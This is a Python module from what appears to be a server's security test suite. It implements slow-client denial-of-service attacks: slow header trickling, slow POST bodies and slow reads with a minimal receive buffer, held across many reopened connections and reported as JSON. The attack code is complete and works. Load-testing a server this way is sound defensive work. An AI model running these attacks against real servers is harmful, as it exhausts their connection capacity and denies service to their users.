"""The attacks: slow head, body and read connections held against a target, and their report."""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

from tests.security.slowclients.common import (
    LARGE_BYTES,
    LARGE_PATH,
    PROGRAM,
    SAMPLE_INTERVAL_S,
    Json,
    percentile,
)

CONNECT_TIMEOUT_S = 5.0
SEND_TIMEOUT_S = 5.0
TCP_ESTABLISHED = 0x01
LINGER_RESET = struct.pack("ii", 1, 0)
"""SO_LINGER on, 0 s: close() sends a reset and leaves nothing in TIME_WAIT."""
SMALLEST_RCVBUF = 1024
"""Asked of SO_RCVBUF by the slow reader; Linux rounds it up to its minimum (2,304 bytes)."""


def reply_status(data: bytes) -> str:
    """The status code of an HTTP/1 reply's first bytes, "eof" for none, else "data"."""
    if not data:
        return "eof"
    if data.startswith(b"HTTP/1.") and len(data) >= 12 and data[9:12].isdigit():
        return data[9:12].decode()
    return "data"


def server_side_states(proc_net_tcp: str, port: int) -> dict[int, int]:
    """{client port: TCP state} of the sockets whose local port is `port`, from the text
    of /proc/net/tcp: the target's side of every connection made to it."""
    states: dict[int, int] = {}
    for line in proc_net_tcp.splitlines()[1:]:
        fields = line.split()
        if len(fields) < 4:
            continue
        local, remote, state = fields[1], fields[2], fields[3]
        if int(local.rsplit(":", 1)[1], 16) == port:
            states[int(remote.rsplit(":", 1)[1], 16)] = int(state, 16)
    return states


@dataclass(frozen=True)
class AttackPlan:
    """One attack: `connections` slow clients held for `duration_s`, each reopened when the
    target closes it.

    slow_head sends a request line and then one header line every `interval_s`, never the
    blank line; slow_body sends a whole head with Content-Length `body_length` and then
    `body_piece` every `interval_s`; slow_read asks for `LARGE_PATH` with a receive buffer
    of `rcvbuf` bytes and reads `read_bytes` every `interval_s`.
    """

    kind: str
    connections: int
    duration_s: float
    interval_s: float
    open_rate: float = 500.0
    body_length: int = 1_000_000
    body_piece: str = "a=1&"
    read_bytes: int = 5
    rcvbuf: int = SMALLEST_RCVBUF
    large_bytes: int = LARGE_BYTES

    def argv(self, target: str, out: Path | None = None) -> list[str]:
        """The command line that runs this attack against ``host:port`` with this interpreter."""
        args = [sys.executable, str(PROGRAM), "attack", "--target", target]
        for name, value in asdict(self).items():
            args += [f"--{name.replace('_', '-')}", str(value)]
        return args + (["--out", str(out)] if out else [])


@dataclass
class Held:
    """One attacking connection."""

    sock: socket.socket
    port: int
    opened: float
    cut_at: float | None = None
    how: str = ""
    cut: asyncio.Event = field(default_factory=asyncio.Event)

    def mark_cut(self, how: str) -> None:
        if self.cut_at is None:
            self.cut_at, self.how = time.monotonic(), how
            self.cut.set()


class Attack:
    """Runs an `AttackPlan` against host:port and records every connection."""

    def __init__(self, host: str, port: int, plan: AttackPlan) -> None:
        self.host, self.port, self.plan = host, port, plan
        self.started = time.monotonic()
        self.deadline = self.started + plan.duration_s
        self.live: dict[int, Held] = {}
        self.records: list[tuple[float, float | None, str]] = []
        self.connect_failures: Counter[str] = Counter()
        self.replies: Counter[str] = Counter()
        self.open_counts: list[tuple[float, int]] = []

    async def run(self) -> Json:
        watcher = asyncio.create_task(self.watch_kernel_states())
        await asyncio.gather(*(self.hold_slot(i) for i in range(self.plan.connections)))
        watcher.cancel()
        cuts = [cut for _, cut, _ in self.records if cut is not None]
        return {
            "plan": asdict(self.plan),
            "target": f"{self.host}:{self.port}",
            "seconds": round(time.monotonic() - self.started, 3),
            "opened": len(self.records),
            "cut": len(cuts),
            "held_at_end": len(self.records) - len(cuts),
            "median_cut_after_s": percentile(cuts, 0.5),
            "how": dict(Counter(how for _, cut, how in self.records if cut is not None)),
            "replies": dict(self.replies),
            "connect_failures": dict(self.connect_failures),
            "peak_open": max((n for _, n in self.open_counts), default=0),
            "open_counts": self.open_counts,
            "connections": self.records,
        }

    async def hold_slot(self, index: int) -> None:
        """Keep one attacking connection open until the deadline, reopening it when cut."""
        await asyncio.sleep(index / self.plan.open_rate)
        while time.monotonic() < self.deadline:
            held = await self.connect()
            if held is None:
                await asyncio.sleep(0.5)
                continue
            self.live[held.port] = held
            try:
                await getattr(self, self.plan.kind)(held)
            except OSError:
                held.mark_cut("reset")
            finally:
                del self.live[held.port]
                # SO_LINGER 0: close with a reset, so nothing lingers on either side.
                with contextlib.suppress(OSError):
                    held.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_RESET)
                held.sock.close()
            cut_after = None if held.cut_at is None else round(held.cut_at - held.opened, 3)
            self.records.append((round(held.opened - self.started, 3), cut_after, held.how))

    async def connect(self) -> Held | None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        if self.plan.kind == "slow_read":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.plan.rcvbuf)
        try:
            loop = asyncio.get_running_loop()
            await asyncio.wait_for(
                loop.sock_connect(sock, (self.host, self.port)), CONNECT_TIMEOUT_S
            )
        except (OSError, TimeoutError) as err:
            sock.close()
            self.connect_failures[type(err).__name__] += 1
            return None
        return Held(sock, sock.getsockname()[1], time.monotonic())

    async def send(self, held: Held, data: bytes) -> None:
        loop = asyncio.get_running_loop()
        try:
            await asyncio.wait_for(loop.sock_sendall(held.sock, data), SEND_TIMEOUT_S)
        except (OSError, TimeoutError):
            held.mark_cut("reset on send")

    async def until_cut(self, held: Held, seconds: float) -> bool:
        """Wait `seconds` (at most to the deadline); True if the target cut meanwhile."""
        left = min(seconds, self.deadline - time.monotonic())
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(held.cut.wait(), max(0.0, left))
        return held.cut.is_set()

    async def watch_replies(self, held: Held) -> None:
        """Any reply, the end of the stream or a reset means the target ended the request."""
        loop = asyncio.get_running_loop()
        try:
            data = await loop.sock_recv(held.sock, 4096)
        except OSError:
            held.mark_cut("reset")
        else:
            held.mark_cut(reply_status(data))

    async def trickle(self, held: Held, first: bytes, next_piece: Callable[[int], bytes]) -> None:
        """Send `first`, then `next_piece(n)` every interval until cut or the deadline."""
        replies = asyncio.create_task(self.watch_replies(held))
        try:
            await self.send(held, first)
            n = 0
            while not await self.until_cut(held, self.plan.interval_s):
                if time.monotonic() >= self.deadline:
                    return
                n += 1
                await self.send(held, next_piece(n))
        finally:
            replies.cancel()

    async def slow_head(self, held: Held) -> None:
        head = f"GET / HTTP/1.1\r\nHost: {self.host}:{self.port}\r\nUser-Agent: slowclients\r\n"
        await self.trickle(held, head.encode(), lambda n: f"X-Slow-{n}: {n}\r\n".encode())

    async def slow_body(self, held: Held) -> None:
        piece = self.plan.body_piece.encode()
        head = (
            f"POST /upload HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {self.plan.body_length}\r\n\r\n"
        )
        await self.trickle(held, head.encode() + piece, lambda _: piece)

    async def slow_read(self, held: Held) -> None:
        path = f"{LARGE_PATH}?bytes={self.plan.large_bytes}"
        await self.send(
            held, f"GET {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n\r\n".encode()
        )
        start = b""
        while not await self.until_cut(held, self.plan.interval_s):
            if time.monotonic() >= self.deadline:
                return
            try:
                # The status line at once (a client would), then `read_bytes` at a time.
                data = held.sock.recv(self.plan.read_bytes if start else 12)
            except BlockingIOError:
                continue
            if not data:
                held.mark_cut("eof")
                return
            if len(start) < 12:
                start += data
                if len(start) >= 12:
                    self.replies[reply_status(start)] += 1

    async def watch_kernel_states(self) -> None:
        """Marks connections cut once the target's side of them is no longer established.

        A slow reader would see the target's FIN only after reading everything queued
        before it; the kernel's table shows at once that the target closed its socket.
        """
        table = Path("/proc/net/tcp")
        while True:
            await asyncio.sleep(SAMPLE_INTERVAL_S)
            states = server_side_states(table.read_text(), self.port)
            now = time.monotonic()
            self.open_counts.append((round(now - self.started, 2), len(self.live)))
            for held in list(self.live.values()):
                if now - held.opened >= SAMPLE_INTERVAL_S:
                    state = states.get(held.port)
                    if state != TCP_ESTABLISHED:
                        held.mark_cut("closed" if state is not None else "gone")


def run_attack_process(argv: list[str], out: Path, timeout: float, cpu: int | None = None) -> Json:
    """Run the ``attack`` command (its `argv`, writing to `out`), wait for it, return its
    report; stopped by its PID if it outlives `timeout`."""
    if cpu is not None:
        argv = ["taskset", "-c", str(cpu), *argv]
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, start_new_session=True)  # fmt: skip
    try:
        _, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()
        raise RuntimeError(f"the attack outlived {timeout:g} s and was stopped") from None
    if proc.returncode != 0 or not out.exists():
        msg = f"the attack exited with {proc.returncode}: {err.decode(errors='replace')[-2000:]}"
        raise RuntimeError(msg)
    report: Json = json.loads(out.read_text())
    return report
